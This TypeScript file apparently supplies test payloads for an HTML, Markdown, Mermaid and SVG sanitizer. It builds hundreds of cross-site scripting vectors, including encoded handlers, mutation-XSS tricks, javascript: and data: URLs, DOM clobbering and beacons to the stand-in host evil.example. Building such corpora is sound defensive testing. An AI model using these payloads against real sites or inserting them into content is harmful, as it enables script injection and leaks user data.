/** The function that a payload calls when it runs, with its name. */
export const sentinel = 'sentinelCalled'

/** The host that nothing may ask for anything. */
export const otherHost = 'evil.example'

const call = `${sentinel}()`
const beacon = `https://${otherHost}/x`

/** An element that runs a handler by itself, with the handler as it is written into it. */
type Trap = (handler: string) => string

const traps: readonly Trap[] = [
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img srcset="x 1x" onerror=${run}>`,
  (run) => `<image src=x onerror=${run}>`,
  (run) => `<svg onload=${run}></svg>`,
  (run) => `<svg><image href=x onerror=${run} /></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s /></svg>`,
  (run) => `<svg><set onbegin=${run} attributeName=x /></svg>`,
  (run) => `<video src=x onerror=${run}></video>`,
  (run) => `<video><source src=x onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<body onload=${run}>`,
  (run) => `<body onpageshow=${run}>`,
  (run) => `<iframe src="about:blank" onload=${run}></iframe>`,
  (run) => `<object data=x onerror=${run}></object>`,
  (run) => `<embed src=x onload=${run} onerror=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<input type=image src=x onerror=${run}>`,
  (run) => `<select autofocus onfocus=${run}></select>`,
  (run) => `<textarea autofocus onfocus=${run}></textarea>`,
  (run) => `<button autofocus onfocus=${run}>b</button>`,
  (run) => `<a href=x autofocus tabindex=1 onfocus=${run}>a</a>`,
  (run) => `<details open ontoggle=${run}><summary>s</summary></details>`,
  (run) => `<marquee onstart=${run}>m</marquee>`,
  (run) => `<div style="animation:x 1s" onanimationstart=${run}>d</div><style>@keyframes x{}</style>`,
  (run) => `<div style="transition:all 1ms;color:red" ontransitionend=${run} onpointerenter=${run}>d</div>`,
  (run) => `<link rel=stylesheet href="data:text/css,x" onload=${run}>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<script src=x onerror=${run}></script>`,
  (run) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  (run) => `<x-y tabindex=0 autofocus onfocus=${run}>x</x-y>`,
  (run) => `<picture><source srcset=x><img onerror=${run} src=x></picture>`,
  (run) => `<form><input autofocus onfocus=${run} form=f></form>`,
]

/** Ways to write a handler: the same for a browser, another for who looks for it. */
const spellings: readonly ((code: string) => string)[] = [
  (code) => code,
  (code) => `"${code}"`,
  (code) => `'${code}'`,
  (code) => `"${entities(code)}"`,
  (code) => `"${hexEntities(code)}"`,
  (code) => `"\t\n${code}"`,
  (code) => `"javascript:${code}"`,
]

const entities = (text: string) => Array.from(text, (each) => `&#${each.charCodeAt(0)}`).join(';')
const hexEntities = (text: string) => Array.from(text, (each) => `&#x${each.charCodeAt(0).toString(16)};`).join('')

const handled = traps.flatMap((trap) => spellings.map((spell) => trap(spell(call))))

const written: readonly ((html: string) => string)[] = [
  (html) => html.replace(/<(\w)/, (_all, letter: string) => `<${letter.toUpperCase()}`),
  (html) => html.replace(/ on/, '/on'),
  (html) => html.replace(/ on/, '\fOn'),
  (html) => html.replace(/>$/, ''),
  (html) => `<<b>${html}`,
  (html) => `"><!--<!-->${html}`,
  (html) => `</p></article></main>${html}`,
]
const rewritten = traps.slice(0, 12).flatMap((trap) => written.map((write) => write(trap(call))))

const scripts = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script>${call}//`,
  `<script\n>${call}</script\n>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script src="//${otherHost}/x.js"></script>`,
  `<script type=module>import "${beacon}"</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:text/javascript,${call}" /></svg>`,
  `<math><script>${call}</script></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<template><script>${call}</script></template>`,
  `<textarea><script>${call}</script></textarea><script>${call}</script>`,
  `<title><img src=x onerror=${call}></title>`,
  `<xmp><img src=x onerror=${call}></xmp>`,
  `<plaintext><img src=x onerror=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${call}&gt;"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="data:text/html,<script>${call}</script>">`,
  `<frameset onload=${call}><frame src="javascript:${call}"></frameset>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=${beacon}">`,
  `<base href="https://${otherHost}/"><img src="y">`,
  `<form action="javascript:${call}"><button autofocus>go</button></form>`,
  `<button formaction="javascript:${call}">go</button>`,
  `<isindex type=image src=x onerror=${call}>`,
]

// The pairs of namespaces and the quirks of tables and forms that let a tree change when it is written and read again.
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<svg><p><style><img src=x onerror=${call}></style></p></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${call}></desc></svg>`,
  `<svg><title><img src=x onerror=${call}></title></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text x=20 y=20>t</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${call}" /><a id=a><text>t</text></a></svg>`,
  `<math href="javascript:${call}">m</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${call}">m</maction></math>`,
  `<table background="${beacon}"><tr><td background="${beacon}">t</td></tr></table>`,
  `<table><td><a href="x"><table><td><img src=x onerror=${call}></table></a></table>`,
  `<a><table><a href="javascript:${call}"><td>x</td></a></table></a>`,
  `<select><option><style></option></select><img src=x onerror=${call}></style>`,
  `<noembed><img title="</noembed><img src=x onerror=${call}>"></noembed>`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${call}>`,
  `<!ENTITY x "<img src=x onerror=${call}>">`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!-- --!><img src=x onerror=${call}> -->`,
  `<\u0000img src=x onerror=${call}>`,
  `<img src=x:x on\u0000error=${call}>`,
  `\u2028<img src=x onerror=${call}>\u2029`,
  `＜img src=x onerror=${call}＞`,
  `%3Cimg src=x onerror=${call}%3E &lt;img src=x onerror=${call}&gt;`,
]

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java&#10;script:${call}`,
  `&#106;avascript:${call}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${call}`,
  `javascript&colon;${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `javascript://%0a${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  `blob:https://${otherHost}/x`,
  `file:///etc/passwd`,
]

const links = addresses.flatMap((address) => [
  `[click](<${address}>)`,
  `![image](<${address}>)`,
  `<a href="${address}">click</a>`,
  `<img src="${address}">`,
  `[ref]\n\n[ref]: <${address}>`,
])

// An address of another host, in all the ways that pages ask for one by themselves.
const beacons = [
  `![image](${beacon})`,
  `![image](//${otherHost}/x)`,
  `![image](/\\${otherHost}/x)`,
  `![image](\\\\${otherHost}\\x)`,
  `![image](https:${otherHost}/x)`,
  `![image](https:/${otherHost}/x)`,
  `<img src="${beacon}">`,
  `<img src="//${otherHost}/x">`,
  `<img src="\t//${otherHost}/x">`,
  `<img src="/\t/${otherHost}/x">`,
  `<img srcset="${beacon} 1x">`,
  `<picture><source srcset="${beacon}"><img src="${beacon}"></picture>`,
  `<video poster="${beacon}"></video>`,
  `<audio src="${beacon}" autoplay></audio>`,
  `<track src="${beacon}">`,
  `<link rel=preload as=image href="${beacon}">`,
  `<link rel=dns-prefetch href="//${otherHost}">`,
  `<style>@import "${beacon}";</style>`,
  `<div style="background:url(${beacon})">d</div>`,
  `<font face="x" style="list-style:url(${beacon})">f</font>`,
  `<input type=image src="${beacon}">`,
  `<svg><image href="${beacon}" /><feImage href="${beacon}" /><use href="${beacon}#x" /></svg>`,
  `<object data="${beacon}"></object><embed src="${beacon}"><iframe src="${beacon}"></iframe>`,
  `<body background="${beacon}">`,
  `<q cite="${beacon}">q</q><blockquote cite="${beacon}">q</blockquote>`,
  `<portal src="${beacon}"></portal><fencedframe src="${beacon}"></fencedframe>`,
]

const markdownTricks = [
  `[a](javascript:${call} "x")`,
  `[a]( javascript:${call})`,
  `[a](javascript\\:${call})`,
  `<javascript:${call}>`,
  `<https://x.example/"onmouseover="${call}>`,
  `[a](https://x.example/"onmouseover="${call})`,
  `![x](x "onerror=&quot;${call}&quot;")`,
  `![x"onerror="${call}](x)`,
  '```"><img src=x onerror=' + call + '>\ncode\n```',
  '```html\n<img src=x onerror=' + call + '>\n```',
  `\`<img src=x onerror=${call}>\``,
  `[^<img src=x onerror=${call}>]\n\n[^<img src=x onerror=${call}>]: note <img src=x onerror=${call}>`,
  `| <img src=x onerror=${call}> |\n|-|\n| <svg onload=${call}> |`,
  `- [ ] <img src=x onerror=${call}>`,
  `> [!NOTE]\n> <img src=x onerror=${call}>`,
  `> [!<img src=x onerror=${call}>]\n> text`,
  `# <img src=x onerror=${call}> {#x onload=${call}}`,
  `---\ntitle: <img src=x onerror=${call}>\nlist:\n  - <svg onload=${call}>\n---\n`,
  `www.x.example/<img src=x onerror=${call}>`,
  `http://x.example/\u202e<img src=x onerror=${call}>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `\\<img src=x onerror=${call}>`,
  `<div><![CDATA[\n<img src=x onerror=${call}>\n]]></div>`,
  `$\\href{javascript:${call}}{x}$ $$\\includegraphics{${beacon}}$$`,
]

/** Names that a page must not lose to the ids and names of a document. */
const clobbered = ['getElementById', 'querySelector', 'body', 'cookie', 'forms', 'location', 'root', 'page-context']
const clobbering = clobbered.flatMap((name) => [
  `<a id="${name}" name="${name}" href="x">a</a>`,
  `<img name="${name}"><form id="${name}"><input name="${name}"></form>`,
  `[^${name}]\n\n[^${name}]: note`,
])

/** What hostile documents, cells and texts hold. */
export const payloads: readonly string[] = [
  ...handled,
  ...rewritten,
  ...scripts,
  ...mutations,
  ...links,
  ...beacons,
  ...markdownTricks,
  ...clobbering,
]

/** Diagrams that try to run something or to load something. */
export const diagrams: readonly string[] = [
  `graph TD\n  A["<img src=x onerror=${call}>"] --> B`,
  `graph TD\n  A["<script>${call}</script>"] --> B["<svg onload=${call}>"]`,
  `graph TD\n  A --> B\n  click A call ${sentinel}()`,
  `graph TD\n  A --> B\n  click A "javascript:${call}"`,
  `graph TD\n  A --> B\n  click A href "${beacon}" _self`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n  A["<img src=x onerror=${call}>"]`,
  `%%{init: {"themeCSS": "*{background:url(${beacon})} @import '${beacon}';"}}%%\ngraph TD\n  A --> B`,
  `%%{init: {"fontFamily": "x; background: url(${beacon})"}}%%\ngraph TD\n  A --> B`,
  `%%{init: {"themeVariables": {"primaryColor": "url(${beacon})"}}}%%\ngraph TD\n  A --> B`,
  `---\nconfig:\n  securityLevel: loose\n  themeCSS: "*{background:url(${beacon})}"\n---\ngraph TD\n  A --> B`,
  `graph TD\n  A --> B\n  style A fill:url(${beacon}),background:url(${beacon}),mask:url(${beacon})`,
  `graph TD\n  classDef x background:url(${beacon})\n  A:::x --> B`,
  `graph TD\n  A@{ img: "${beacon}.png", label: "x" }`,
  `graph TD\n  A@{ icon: "x:<img src=x onerror=${call}>" }`,
  `sequenceDiagram\n  participant A as <img src=x onerror=${call}>\n  A->>B: <svg onload=${call}>\n  link A: x @ javascript:${call}`,
  `classDiagram\n  class A["<img src=x onerror=${call}>"]\n  click A call ${sentinel}() "x"`,
  `gantt\n  title <img src=x onerror=${call}>\n  section s\n  x :a1, 2024-01-01, 1d\n  click a1 call ${sentinel}()`,
  `pie title <img src=x onerror=${call}>\n  "<svg onload=${call}>" : 1`,
  `journey\n  title <img src=x onerror=${call}>\n  section s\n    <svg onload=${call}>: 5: me`,
  `erDiagram\n  A ||--o{ B : "<img src=x onerror=${call}>"`,
  `mindmap\n  root(("<img src=x onerror=${call}>"))`,
  `stateDiagram-v2\n  s1: <img src=x onerror=${call}>\n  [*] --> s1`,
]

/** Pictures that try to run something or to load something. */
export const pictures: readonly string[] = [
  `<script>${call}</script>`,
  `<script href="data:text/javascript,${call}"/>`,
  `<rect width="9" height="9" onload="${call}"/><image href="x" onerror="${call}"/>`,
  `<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${call}"/><iframe src="javascript:${call}"/></body></foreignObject>`,
  `<image href="${beacon}"/><use href="${beacon}#x"/><style>@import "${beacon}"; * { fill: url(${beacon}) }</style>`,
  `<a href="javascript:${call}"><rect width="99" height="99"/></a>`,
  `<animate attributeName="x" onbegin="${call}"/><set attributeName="x" onbegin="${call}"/>`,
].map((inside) => `<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99" onload="${call}">${inside}</svg>`)
